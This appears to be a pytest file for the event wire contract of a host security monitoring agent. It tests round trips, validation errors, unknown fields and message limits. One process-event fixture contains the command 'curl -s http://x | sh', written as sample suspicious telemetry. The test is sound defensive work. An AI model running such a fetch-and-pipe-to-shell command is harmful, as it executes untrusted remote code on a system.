"""The wire contract: round trips, validation messages, forward compatibility, topic keys."""

from __future__ import annotations

import orjson
import pytest

from event_contract import (
    DEAD_LETTER_TOPIC,
    EVENTS_TOPIC,
    AuthenticationEvent,
    DecodeError,
    FileEvent,
    HeartbeatEvent,
    ProcessEvent,
    decode_event,
    encode_event,
    event_from_dict,
    message_key,
)
from tests.support.events import envelope, process_exec, ssh_failure


def file_event() -> dict[str, object]:
    event = envelope("canhgac.file", ["file"], ["change"], action="attributes_modification")
    event["file"] = {"path": "/var/www/html/index.php", "mode": "0755", "uid": "33", "inode": "1234"}
    event["canhgac"]["system"]["security_level"] = 4
    event["canhgac"]["file"] = {"previous": {"mode": "0644"}, "changed_fields": ["mode"]}
    return event


def heartbeat() -> dict[str, object]:
    event = envelope("canhgac.heartbeat", ["host"], ["info"])
    event["event"]["kind"] = "state"
    event["canhgac"]["health"] = {
        "interval_s": 30,
        "sensors": {"process": {"status": "degraded", "detail": "polling"}},
        "spool": {"depth": 3, "bytes": 900, "dropped": 0},
    }
    return event


@pytest.mark.parametrize(
    ("document", "model"),
    [
        (process_exec("/usr/bin/curl", "curl -s http://x | sh"), ProcessEvent),
        (ssh_failure("admin", "198.51.100.2"), AuthenticationEvent),
        (file_event(), FileEvent),
        (heartbeat(), HeartbeatEvent),
    ],
)
def test_round_trip_keeps_every_field(document: dict[str, object], model: type) -> None:
    event = event_from_dict(document)
    assert isinstance(event, model)
    wire = encode_event(event)
    assert decode_event(wire) == event
    assert orjson.loads(wire)["@timestamp"].endswith("Z") or "+00:00" in orjson.loads(wire)["@timestamp"]


def test_unknown_fields_from_a_newer_agent_are_ignored() -> None:
    document = process_exec("/bin/true", "true")
    document["process"]["future_field"] = {"x": 1}
    document["brand_new_group"] = [1, 2, 3]
    event = event_from_dict(document)
    assert "brand_new_group" not in orjson.loads(encode_event(event))


@pytest.mark.parametrize(
    ("mutate", "reason"),
    [
        (lambda d: d["canhgac"]["system"].__setitem__("security_level", 7), "canhgac.system.security_level"),
        (lambda d: d["event"].__setitem__("sequence", -1), "event.sequence"),
        (lambda d: d["event"].__setitem__("dataset", "canhgac.nope"), "event.dataset is 'canhgac.nope'"),
        (lambda d: d.pop("host"), "host: Field required"),
        (lambda d: d["file"].__setitem__("mode", "755"), "file.mode"),
    ],
)
def test_invalid_events_are_refused_with_the_offending_key(mutate: object, reason: str) -> None:
    document = file_event()
    mutate(document)  # type: ignore[operator]
    with pytest.raises(DecodeError, match=reason.replace("(", r"\(")):
        decode_event(orjson.dumps(document))


def test_not_json_and_oversized_messages_are_refused() -> None:
    with pytest.raises(DecodeError, match="not JSON"):
        decode_event(b"\xff{")
    with pytest.raises(DecodeError, match="limit"):
        decode_event(b" " * 2_000_000)
    with pytest.raises(DecodeError, match="expected a JSON object"):
        decode_event(b"[]")


def test_topics_and_keys_are_defined_once() -> None:
    assert EVENTS_TOPIC != DEAD_LETTER_TOPIC
    assert message_key("host-1") == b"host-1"
    with pytest.raises(ValueError, match="empty"):
        message_key("")
